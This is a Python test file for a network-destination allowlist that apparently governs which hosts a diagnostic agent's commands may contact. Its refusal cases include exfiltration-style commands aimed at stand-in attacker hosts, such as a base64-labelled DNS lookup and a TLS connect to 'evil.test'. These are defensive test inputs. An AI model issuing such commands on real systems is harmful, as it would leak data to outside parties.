"""Where packets may go: what the ticket, the host's own configuration or the user's own words approve, and nothing else."""

from __future__ import annotations

import shlex

import pytest

from tai.engine.destinations import Destinations
from tai.engine.inventory import Inventory, read
from tai.model import Subjects, Ticket
from tai.policy import ReadOnlyCommand, Tier, catalogue

TICKET = Ticket(text="", hosts=("db-02.corp.test",), subjects=Subjects(addresses=("10.1.2.3",)))


def command(line: str) -> ReadOnlyCommand:
    return ReadOnlyCommand(shlex.split(line))


@pytest.mark.parametrize(
    "line",
    [
        "ping -c 1 198.51.100.9",
        "dig +short aGVsbG8.evil.test",
        "dig @198.51.100.9 localhost",
        "dig -x 198.51.100.9",
        "getent hosts stolen-data.evil.test",
        "openssl s_client -connect evil.test:443",
        "traceroute -n 198.51.100.9",
    ],
)
def test_destination_that_nobody_vouches_for_is_refused_with_the_way_to_approve_it(line: str) -> None:
    reason = Destinations().refusal(command(line), TICKET)
    assert "is no approved destination" in reason
    assert "/run " in reason


@pytest.mark.parametrize(
    "line",
    [
        "ping -c 1 10.1.2.3",
        "getent hosts DB-02.corp.test",
        "openssl s_client -connect db-02.corp.test:5432",
        "ping -c 1 127.0.0.1",
        "dig @127.0.0.1 localhost",
        "ping -c 1 web-01",
        "uptime",
    ],
)
def test_what_the_ticket_names_the_host_itself_and_loopback_are_approved(line: str) -> None:
    assert Destinations(hosts=["web-01"]).refusal(command(line), TICKET) == ""


def test_what_the_user_typed_stays_approved_for_that_host() -> None:
    known = Destinations()
    known.type(command("dig @10.0.0.53 shop.corp.test"))
    assert known.refusal(command("dig @10.0.0.53 shop.corp.test MX"), None) == ""
    assert known.refusal(command("ping -c 1 shop.corp.test"), None) == ""
    assert "other.corp.test" in known.refusal(command("dig @10.0.0.53 other.corp.test"), None)
    assert "shop.corp.test" in Destinations().refusal(command("ping -c 1 shop.corp.test"), None)


@pytest.mark.parametrize(
    ("source", "text", "destination"),
    [
        ("cat /etc/resolv.conf", "nameserver 10.0.0.53\n", "10.0.0.53"),
        ("cat /run/systemd/resolve/resolv.conf", "nameserver fd00::53\n", "fd00::53"),
        ("cat /etc/hosts", "10.4.5.6 cache-1.corp.test cache-1 # the cache\n", "cache-1"),
        ("cat /etc/hosts", "10.4.5.6 cache-1\n", "10.4.5.6"),
        ("ip route show", "default via 10.0.0.1 dev eth0 proto dhcp\n", "10.0.0.1"),
        ("ip address show", "    inet 10.0.0.7/24 brd 10.0.0.255 scope global eth0\n", "10.0.0.7"),
        ("resolvectl status", "       DNS Servers: 10.0.0.53\n", "10.0.0.53"),
    ],
)
def test_hosts_own_network_configuration_approves(source: str, text: str, destination: str) -> None:
    known = Destinations()
    check = command(f"ping -c 1 {destination}")
    assert known.refusal(check, None)
    known.learn(command(source).argv, text)
    assert known.refusal(check, None) == ""


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("journalctl -n 5", "sshd[1]: Failed password for root from 198.51.100.9\n"),
        ("cat /var/log/syslog", "nameserver 198.51.100.9\n"),
        ("ss -tn", "ESTAB 0 0 10.0.0.7:22 198.51.100.9:50312\n"),
        ("ip route get 198.51.100.9", "198.51.100.9 via 10.0.0.1 dev eth0 src 10.0.0.7\n"),
        ("ip neighbour show", "198.51.100.9 dev eth0 lladdr 52:54:00:00:00:01 STALE\n"),
        ("cat /etc/hosts", "# 198.51.100.9 evil\n"),
        ("cat /etc/resolv.conf", "# nameserver 198.51.100.9\n; 198.51.100.9\n"),
    ],
)
def test_what_a_stranger_can_put_into_a_log_or_a_table_does_not(source: str, text: str) -> None:
    known = Destinations()
    known.learn(command(source).argv, text)
    assert known.refusal(command("ping -c 1 198.51.100.9"), None)


def test_every_command_of_tier_c_names_where_it_sends() -> None:
    lines = [line for program in catalogue().programs.values() for line in program.examples]
    sending = [line for line in lines if command(line).tier is Tier.C]
    assert len(sending) >= 8
    assert [line for line in sending if not Destinations().refusal(command(line), None)] == []


def test_search_domains_and_names_are_told_for_pseudonyms() -> None:
    assert read(
        ("cat", "--", "/etc/resolv.conf"), "search corp.test a.b\nnameserver 10.0.0.53\n"
    ) == Inventory(frozenset({"10.0.0.53"}), frozenset(), frozenset({"corp.test", "a.b"}))
    told = read(("cat", "--", "/etc/hosts"), "127.0.1.1 web-7.corp.test web-7\n::1 localhost ip6-loopback\n")
    assert told.names == {"web-7.corp.test", "web-7"}
